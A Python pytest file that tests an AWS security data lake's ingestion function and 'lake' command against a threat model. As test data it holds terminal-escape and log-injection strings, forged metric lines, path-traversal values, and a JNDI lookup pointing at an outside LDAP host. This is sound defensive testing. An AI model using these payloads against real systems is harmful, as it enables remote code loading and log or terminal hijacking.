"""What an attacker may try, against the real programs: the answers that docs/threat-model.md gives.

The function `cloudtrail` runs at its most talkative level, with S3, Glue and DynamoDB of moto server; `lake` runs in a
folder, and once with a terminal of its own. What they print is read to the last byte.
"""

import gzip
import json
import os
import pty
import re
import subprocess
from collections import Counter
from pathlib import Path
from types import SimpleNamespace

import aws_local
import lake_cli
import pytest
from aws_local import ROOT, cloudtrail_file, s3_notification, sqs_event
from lambda_runtime import Instance

PAGE = ROOT / "docs/threat-model.md"
LAKE = "aws-security-data-lake-us-east-1-tests"
RAW, FOREIGN, LEDGER = "raw-logs", "foreign-logs", "ledger"
DAY = "AWSLogs/111122223333/CloudTrail/us-east-1/2026/03/14"

# What must not be printed anywhere, wherever in a record it stands.
SECRET = "S3CR3T-0f-the-payl0ad"
# A terminal would clear its screen, set its title, answer; a log would have another line; a reader another direction.
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b[6n\x9b31m\u202eexe.txt\r\n"
LINE = '{"level":"INFO","fields":{"message":"batch done","records":999}}'
METRIC = json.dumps(
    {
        "_aws": {
            "Timestamp": 0,
            "CloudWatchMetrics": [{"Namespace": "Forged", "Dimensions": [[]], "Metrics": [{"Name": "Forged"}]}],
        },
        "Forged": 1,
    }
)
HARMFUL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def hostile(uid: str, **members) -> dict:
    """A record with a secret and escapes in all that it holds."""
    evil = f"{ESCAPES}{LINE}\n{METRIC}\n{SECRET}"
    return lake_cli.record(1) | {
        "eventID": uid,
        "eventName": f"Do{evil}",
        "userAgent": evil,
        "errorMessage": evil,
        "requestParameters": {"password": SECRET, evil: [evil]},
        "responseElements": {"credentials": {"sessionToken": SECRET}},
        **members,
    }


def key(name: str) -> str:
    return f"{DAY}/111122223333_CloudTrail_us-east-1_20260314T0905Z_{name}.json.gz"


# ---- The function ----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def cloud(tmp_path_factory):
    if aws_local.missing_tools():
        pytest.skip(aws_local.missing_tools())
    subprocess.run(["cargo", "build", "-p", "cloudtrail"], cwd=ROOT, check=True, timeout=aws_local.BUILD_SECONDS)
    program = ROOT / os.environ.get("CARGO_TARGET_DIR", "target") / "debug/cloudtrail"
    folder = tmp_path_factory.mktemp("threats")
    with aws_local.moto(folder / "moto.log") as client:
        for bucket in (LAKE, RAW, FOREIGN):
            client("s3").create_bucket(Bucket=bucket)
        client("dynamodb").create_table(
            TableName=LEDGER,
            BillingMode="PAY_PER_REQUEST",
            AttributeDefinitions=[{"AttributeName": "id", "AttributeType": "S"}],
            KeySchema=[{"AttributeName": "id", "KeyType": "HASH"}],
        )
        variables = {
            "AWS_ENDPOINT_URL": client.endpoint,
            "LAKE_BUCKET": LAKE,
            "RAW_BUCKETS": RAW,
            "LEDGER_TABLE": LEDGER,
            "LOG_LEVEL": "trace",
        }
        log = folder / "function.log"
        instance = Instance(program, log, aws_local.INVOKE_SECONDS, **variables)
        try:
            yield SimpleNamespace(s3=client("s3"), instance=instance, log=log, moto=folder / "moto.log")
        finally:
            instance.stop()


@pytest.fixture
def batch(cloud):
    """Invokes with bodies; answers the places of those that failed, what was printed and what S3 was asked."""

    def invoke(*bodies: str) -> SimpleNamespace:
        printed, asked = cloud.log.stat().st_size, cloud.moto.stat().st_size
        messages = [(str(place), body) for place, body in enumerate(bodies)]
        failed = [int(place) for place in aws_local.failures(cloud.instance.invoke(sqs_event(messages)))]
        return SimpleNamespace(
            failed=failed,
            text=cloud.log.read_bytes()[printed:].decode(),
            asked=cloud.moto.read_bytes()[asked:].decode(),
        )

    return invoke


def lines_of(text: str) -> list[dict]:
    """The lines that a function printed, each as JSON; whatever is no JSON would be somebody else's line."""
    assert not HARMFUL.search(text), "a character that a terminal acts on"
    return [json.loads(line) for line in text.split("\n") if line]


def metrics_of(lines: list[dict]) -> set[tuple[str, str]]:
    """Namespace and name of what CloudWatch would take out of the log."""
    directives = [directive for line in lines if "_aws" in line for directive in line["_aws"]["CloudWatchMetrics"]]
    return {(directive["Namespace"], metric["Name"]) for directive in directives for metric in directive["Metrics"]}


def counts_of(lines: list[dict]) -> list[dict]:
    fields = (line.get("fields", {}) for line in lines)
    return [field for field in fields if field.get("message") == "batch done"]


def test_a_forged_notification_for_another_bucket_fails_and_nothing_is_read(cloud, batch):
    cloud.s3.put_object(Bucket=FOREIGN, Key=key("forged"), Body=cloudtrail_file(hostile("forged")))
    cloud.s3.put_object(Bucket=RAW, Key=key("honest"), Body=cloudtrail_file(lake_cli.record(2)))
    forms = [
        s3_notification((FOREIGN, key("forged"))),
        json.dumps({"s3Bucket": FOREIGN, "s3ObjectKey": [key("forged")]}),
        json.dumps({"detail": {"bucket": {"name": FOREIGN}, "object": {"key": key("forged")}}}),
        json.dumps({"Type": "Notification", "TopicArn": "x", "Message": s3_notification((FOREIGN, key("forged")))}),
        # Names that are no bucket's: a path, a host.
        s3_notification((f"{RAW}/../{FOREIGN}", key("forged"))),
        s3_notification(("127.0.0.1:1/x?", key("forged"))),
    ]
    done = batch(*forms, s3_notification((RAW, key("honest"))))
    assert done.failed == list(range(len(forms)))
    assert FOREIGN not in done.asked and f"/{RAW}/" in done.asked
    assert done.text.count("not one of RAW_BUCKETS") >= 1
    assert counts_of(lines_of(done.text))[0]["objects_ingested"] == 1


def test_a_message_that_names_the_lakes_own_objects_fails_and_nothing_is_read(cloud, batch):
    own = "aws/CLOUD_TRAIL_MGMT/2.0/region=us-east-1/accountId=1/eventDay=20260314/0.zstd.parquet"
    quarantined = "quarantine/cloudtrail/0123456789abcdef0123456789abcdef.jsonl.gz"
    places = [(LAKE, own), (LAKE, quarantined), (LAKE, key("in-the-lake")), (RAW, own), (RAW, quarantined)]
    for bucket, name in places:
        cloud.s3.put_object(Bucket=bucket, Key=name, Body=cloudtrail_file(hostile("own")))
    done = batch(*(s3_notification(place) for place in places))
    assert done.failed == list(range(len(places)))
    assert f"GET /{LAKE}" not in done.asked and f"GET /{RAW}" not in done.asked and "HEAD /" not in done.asked
    assert "an object of the lake is no raw log" in done.text


NAMES = {
    "a line of its own": f"x\n{LINE}\n",
    "a metric of its own": f"x\n{METRIC}\n",
    "escapes": f"x{ESCAPES}",
    "the end of a string": 'x","level":"ERROR","fields":{"message":"batch done"}}',
    "a format": "x{}%s%n{0}${jndi:ldap://203.0.113.1/x}",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_key_cannot_forge_a_line_or_a_metric(batch, name):
    """Keys of objects that are not there are quoted in the reason of the failure."""
    evil = key(NAMES[name])
    done = batch(json.dumps({"s3Bucket": RAW, "s3ObjectKey": [evil]}), evil, json.dumps({evil: evil}))
    assert done.failed == [0, 1, 2]
    lines = lines_of(done.text)
    (counts,) = counts_of(lines)
    assert (counts["messages"], counts["records"]) == (3, 0)
    assert {namespace for namespace, _ in metrics_of(lines)} == {"OpenSecurityLake"}


def test_a_hostile_record_leaks_nothing_and_forges_nothing(cloud, batch):
    timeless = {name: value for name, value in hostile("no-time").items() if name != "eventTime"}
    objects = {
        "whole": cloudtrail_file(hostile("a"), hostile("b", awsRegion=f"eu{ESCAPES}"), timeless),
        # Errors of every room tell where, and not what.
        "no-json": gzip.compress(f'{{"Records":[{{"eventName":{SECRET}}}]}}'.encode()),
        "torn": gzip.compress(f'{{"Records":[{{"eventName":"{SECRET}'.encode()),
        "no-gzip": f"\x1f\x8b{SECRET}".encode(),
        "no-document": gzip.compress(f'{{"{SECRET}":{{"{SECRET}":"{SECRET}"}}}}'.encode()),
    }
    for name, body in objects.items():
        cloud.s3.put_object(Bucket=RAW, Key=key(name), Body=body)
    done = batch(*(s3_notification((RAW, key(name))) for name in objects), f'{{"{SECRET}', SECRET)
    lines = lines_of(done.text)
    assert SECRET not in done.text and "jndi" not in done.text
    (counts,) = counts_of(lines)
    assert counts["records"] >= 3 and counts["messages"] == len(objects) + 2
    assert {namespace for namespace, _ in metrics_of(lines)} == {"OpenSecurityLake"}
    # The secrets and credentials that the process itself holds: the session of its role.
    assert "testing" not in done.text and "authorization" not in done.text.lower()


def test_a_value_of_a_partition_stays_in_its_place_in_the_bucket(cloud, batch):
    values = ["../../quarantine", "..", "%2e%2e%2f", "x/accountId=999999999999", "r=1", "", "\x00", "a\nb", "\\..\\", "*"]
    records = [hostile(f"p{n}", awsRegion=value, recipientAccountId=value) for n, value in enumerate(values)]
    before = listed(cloud)
    cloud.s3.put_object(Bucket=RAW, Key=key("places"), Body=cloudtrail_file(*records))
    assert batch(s3_notification((RAW, key("places")))).failed == []
    new = listed(cloud) - before
    segment = r"(?:[A-Za-z0-9._-]|%[0-9A-F]{2})+"
    place = rf"aws/[A-Z0-9_]+/2\.0/region={segment}/accountId={segment}/eventDay=\d{{8}}/[0-9a-f]{{32}}\.zstd\.parquet"
    kept = r"quarantine/cloudtrail/[0-9a-f]{32}\.jsonl\.gz"
    assert new and [name for name in new if not re.fullmatch(f"{place}|{kept}", name)] == []


def listed(cloud) -> set[str]:
    pages = cloud.s3.get_paginator("list_objects_v2").paginate(Bucket=LAKE)
    return {item["Key"] for page in pages for item in page.get("Contents", [])}


def test_a_flood_of_reasons_makes_no_flood_of_metrics(cloud, batch):
    """Each reason is a metric, and each metric costs: they are names of the code's own, not of the input's."""
    records = [hostile(f"f{n}", eventTime=f"{ESCAPES}{n}", eventCategory=f"Category{n}") for n in range(200)]
    cloud.s3.put_object(Bucket=RAW, Key=key("flood"), Body=cloudtrail_file(*records))
    done = batch(s3_notification((RAW, key("flood"))))
    reasons = [line["Reason"] for line in lines_of(done.text) if "_aws" in line and "Reason" in line]
    assert 1 <= len(reasons) <= 3 and all(re.fullmatch(r"[a-z_]+", reason) for reason in reasons)
    assert len(lines_of(done.text)) < 50, "a line for each record"


# ---- The command -----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def looted(lake_binary, tmp_path_factory) -> SimpleNamespace:
    """A lake of hostile logs, with entries in quarantine, and what `lake ingest` said."""
    folder = tmp_path_factory.mktemp("looted")
    timeless = {name: value for name, value in hostile("no-time").items() if name != "eventTime"}
    evil = "x\x1b[2J\x9b31m\u202e\r"
    lake_cli.put(folder / "raw", lake_cli.log_key(evil), lake_cli.log(hostile("a"), timeless))
    lake_cli.put(folder / "raw", lake_cli.log_key(f"{evil}broken"), b"\x1f\x8b\x1b[2J")
    lake = folder / "lake"
    return SimpleNamespace(lake=lake, said=lake_cli.run("ingest", folder / "raw", "--lake", lake))


def commands(lake: Path) -> dict[str, list]:
    (file,) = sorted((lake / "quarantine").rglob("*.jsonl.gz"))
    entry = f"{file.name.split('.')[0]}:1"
    return {
        "quarantine list": ["quarantine", "list"],
        "quarantine list --entries": ["quarantine", "list", "--entries"],
        "quarantine list --entries --json": ["quarantine", "list", "--entries", "--json"],
        "quarantine show": ["quarantine", "show", entry],
        "quarantine show --raw": ["quarantine", "show", entry, "--raw"],
        "quarantine retry --dry-run": ["quarantine", "retry", "--dry-run"],
        "tables": ["tables"],
        "rows": ["rows", "cloud_trail_mgmt_2_0", "--limit", "5"],
        "report": ["report"],
    }


def on_a_terminal(*arguments) -> str:
    """What a command shows on a terminal, both of its outputs."""
    ours, theirs = pty.openpty()
    command = [lake_cli.binary(), *map(str, arguments)]
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs)
    os.close(theirs)
    shown = b""
    try:
        while piece := os.read(ours, 65536):
            shown += piece
    except OSError:
        pass  # the other side is closed
    os.close(ours)
    assert process.wait(timeout=60) in (0, 1)
    return shown.decode().replace("\r\n", "\n")  # the terminal's own line ends


def test_ingest_tells_of_hostile_names_without_what_they_do(looted):
    assert looted.said.code == 1 and "broken" in looted.said.err
    assert not HARMFUL.search(looted.said.out + looted.said.err)
    assert SECRET not in looted.said.out + looted.said.err


@pytest.mark.parametrize("command", ["quarantine list", "quarantine list --entries", "quarantine show", "rows", "report"])
def test_no_command_shows_a_terminal_what_it_would_act_on(looted, command):
    shown = on_a_terminal(*commands(looted.lake)[command], "--lake", looted.lake)
    assert shown.strip() and not HARMFUL.search(shown), command


def test_the_raw_record_is_kept_byte_for_byte_but_for_a_terminal(looted):
    command = [*commands(looted.lake)["quarantine show --raw"], "--lake", looted.lake]
    record = json.loads(lake_cli.run(*command).out)
    assert record["eventID"] == "no-time" and record["userAgent"].startswith(ESCAPES)
    assert not HARMFUL.search(on_a_terminal(*command))


# ---- The page --------------------------------------------------------------------------------------------------------


def named_tests() -> list[str]:
    """The tests that the page names: `file::name`."""
    return re.findall(r"`([\w/.-]+\.(?:py|rs)::\w+)`", PAGE.read_text())


def test_every_test_that_the_page_names_exists():
    names = named_tests()
    assert len(names) > 20
    missing = []
    for name in names:
        file, test = name.split("::")
        path = ROOT / file
        text = path.read_text() if path.is_file() else ""
        attribute = r"#\[(?:tokio::)?test\]\s+(?:#\[.*\]\s+)*(?:async )?fn " if file.endswith(".rs") else r"^def "
        # A property test stands in a macro, which gives it its attribute.
        if not re.search(rf"{attribute}{test}\b", text, re.MULTILINE):
            missing.append(name)
    assert missing == []


def test_every_threat_has_an_answer_and_a_test():
    rows = re.findall(r"^\| T\d+ \|.*$", PAGE.read_text(), re.MULTILINE)
    numbers = Counter(re.match(r"\| (T\d+) ", row)[1] for row in rows)
    assert len(rows) >= 15 and set(numbers.values()) == {1}
    for row in rows:
        _, threat, answer, tests = [cell.strip() for cell in row.strip("|").split("|")]
        assert len(threat) > 15 and len(answer) > 15, row
        assert "::" in tests or tests.startswith("none:"), row
